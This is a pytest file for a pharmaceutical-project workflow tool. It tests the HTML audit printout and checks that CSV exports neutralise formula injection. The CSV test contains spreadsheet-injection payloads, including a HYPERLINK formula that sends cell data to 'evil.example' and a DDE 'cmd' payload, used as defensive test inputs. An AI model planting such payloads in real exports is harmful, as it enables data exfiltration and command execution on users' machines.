"""The inspector's printout (`cdmo audit export --format html`) and CSV exports that a
spreadsheet cannot turn into formulas."""

from __future__ import annotations

import csv
import html
import io
import json
import re
from pathlib import Path

import pytest
from audit_support import open_ctx, report
from programme import PASSWORD, ROLES, add_team, user_of
from typer.testing import CliRunner

from cdmo_workflow import audit, service
from cdmo_workflow.cli import app
from cdmo_workflow.store import Database

CODE = "PR-1"
HOLD = "Sponsor funding round delayed"
RESUME = "Funding confirmed by the sponsor on 3 Dec"
RECYCLE = "Scope changed: the sponsor wants a new route"


def cli(ctx: service.Context, *args: str, code: int = 0) -> str:
    env = {
        "CDMO_DATABASE_URL": ctx.settings.database_url,
        "CDMO_CHECKPOINT_DIR": str(ctx.settings.checkpoint_dir),
        "CDMO_AUDIT_KEY_FILE": str(ctx.settings.audit_key_file),
    }
    result = CliRunner().invoke(app, ["audit", *args], env=env, catch_exceptions=False)
    assert result.exit_code == code, result.output
    return result.output


def drive(ctx: service.Context) -> None:
    """Scoping to its gate, a hold and resume, two wrong-password attempts, then a recycle."""
    add_team(ctx)
    team = {role: [user_of(role)] for role in ROLES}
    service.start_project(
        ctx, CODE, "api-clinical-program", "Helix Bio", team, user_of("pm"), password=PASSWORD
    )
    snap = service.load_project(ctx, CODE).snapshot
    phase = snap.phase("scoping")
    for d in phase.deliverables:
        if d.required:
            service.submit_deliverable(
                ctx, CODE, "scoping", d.id, user_of(d.owner), f"DMS-{d.id}", password=PASSWORD
            )
    for c in snap.gates[phase.gate].checks:
        service.confirm_check(
            ctx, CODE, phase.gate, c.id, user_of(c.confirmed_by), f"DMS-{c.id}", password=PASSWORD
        )
    service.hold_project(ctx, CODE, user_of("pm"), HOLD, password=PASSWORD)
    service.resume_project(ctx, CODE, user_of("pm"), RESUME, password=PASSWORD)
    for _ in range(2):
        with pytest.raises(service.Refused):
            service.sign_gate(
                ctx,
                CODE,
                phase.gate,
                user_of("site-head"),
                "wrong-password-1",
                "site-head",
                "go",
                "approval",
            )
    service.sign_gate(ctx, CODE, phase.gate, user_of("pm"), PASSWORD, "pm", "go", "approval")
    service.sign_gate(
        ctx,
        CODE,
        phase.gate,
        user_of("customer"),
        PASSWORD,
        "customer",
        "recycle",
        "approval",
        comment=RECYCLE,
    )
    service.sign_gate(
        ctx, CODE, phase.gate, user_of("site-head"), PASSWORD, "site-head", "go", "approval"
    )
    assert service.project_status(ctx, CODE)["phases"][0]["state"] == "active"  # recycled


def _section(page: str, title: str) -> str:
    m = re.search(rf"<h2>{title}</h2>(.*?)<h2>", page, re.S)
    assert m is not None, f"no section {title!r}"
    return m.group(1)


def test_printout_separates_refusals_from_signatures_and_prints_every_reason(
    db_url: str, tmp_path: Path
) -> None:
    ctx = open_ctx(db_url)
    drive(ctx)
    assert report(ctx, CODE, deep=True).ok  # a recycle, a hold and refusals replay cleanly
    target = tmp_path / "audit.html"
    cli(ctx, "export", CODE, "--format", "html", "--out", str(target))
    page = target.read_text()
    rows = json.loads(cli(ctx, "export", CODE, "--format", "json"))
    key = rows[0]["checkpoint_key"]

    header = html.unescape(_section(page, "Verification"))
    assert "Intact." in header and f"All {len(rows)} events were recomputed" in header
    assert f"the last records seq {len(rows)}" in header
    assert f'fingerprint <code class="key">{key}</code>' in header
    running = re.search(r"<thead><tr><td>(.*?)</td></tr></thead>", page, re.S)
    assert running is not None and f"key {key}" in running.group(1)
    assert "@top-left" in page and "counter(page)" in page and "PR-1 · Helix Bio" in page

    sigs = html.unescape(_section(page, "Electronic signatures"))
    sig_rows = re.findall(r'<tr class="signature">(.*?)</tr>', sigs, re.S)
    assert len(sig_rows) == 3
    accepted = [r for r in rows if r["action"] == "gate.sign" and r["outcome"] == "accepted"]
    for row, text in zip(accepted, sig_rows, strict=True):
        cells = [html.unescape(c) for c in re.findall(r"<td[^>]*>(.*?)</td>", text, re.S)]
        new = row["new"]
        assert cells[1:9] == [
            new["name"],
            new["user"],
            "–",  # signed in person, on behalf of nobody
            audit.readable_time(new["signed_at"]),
            "approval",
            new["role"],
            new["decision"],
            "scoping-go",
        ]
        assert new["record_hash"] in text
        assert "?" not in cells[1]
    assert "Carl Sponsor" in sigs and "recycle" in sigs
    assert "wrong-password" not in sigs and "Signed by ?" not in page

    refused = html.unescape(_section(page, "Refused attempts"))
    refused_rows = re.findall(r'<tr class="refused">(.*?)</tr>', refused, re.S)
    bad = [r for r in rows if r["outcome"] == "refused"]
    assert len(refused_rows) == len(bad) == 2
    for row, text in zip(bad, refused_rows, strict=True):
        assert "Sita Head (site-head-user)" in text
        assert row["rule"] and f"<td>{row['rule']}</td>" in text
        assert "go as site-head at gate scoping-go" in text
        assert row["at"] in text

    events = html.unescape(page[page.index("<h2>Events</h2>") :])

    def cell_of(action: str) -> str:
        seq = next(r["seq"] for r in rows if r["action"] == action)
        m = re.search(rf'<tr id="seq-{seq}".*?</tr>', events, re.S)
        assert m is not None
        return m.group(0)

    assert f"reason: {HOLD}" in cell_of("project.hold")
    assert f"reason: {RESUME}" in cell_of("project.resume")
    last = re.search(rf'<tr id="seq-{rows[-1]["seq"]}".*?</tr>', events, re.S)
    assert last is not None and "gate decided: recycle" in last.group(0)
    assert f"comment: {RECYCLE}" in events


def test_csv_cells_never_become_formulas(database: Database) -> None:
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    with database.unit_of_work() as uow:
        uow.audit.append("P-1", "jdoe", "project.start", evil, reason="+cmd|' /C calc'!A0")
        uow.audit.append("P-1", "jdoe", "x", "@SUM(1+1)", reason="-2+3", rule="\tTAB")
        uow.commit()
    text = audit.export(database, "P-1", "csv")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows[0]["subject"] == "'" + evil
    assert rows[0]["reason"] == "'+cmd|' /C calc'!A0"
    assert rows[1]["subject"] == "'@SUM(1+1)" and rows[1]["reason"] == "'-2+3"
    assert rows[1]["rule"] == "'\tTAB"
    for row in rows:
        for value in row.values():
            assert not value or value[0] not in "=+-@\t\r"
    assert audit.neutralise("\rx") == "'\rx" and audit.neutralise("ok=1") == "ok=1"
    data = json.loads(audit.export(database, "P-1", "json"))  # JSON keeps the exact text
    assert data[0]["subject"] == evil
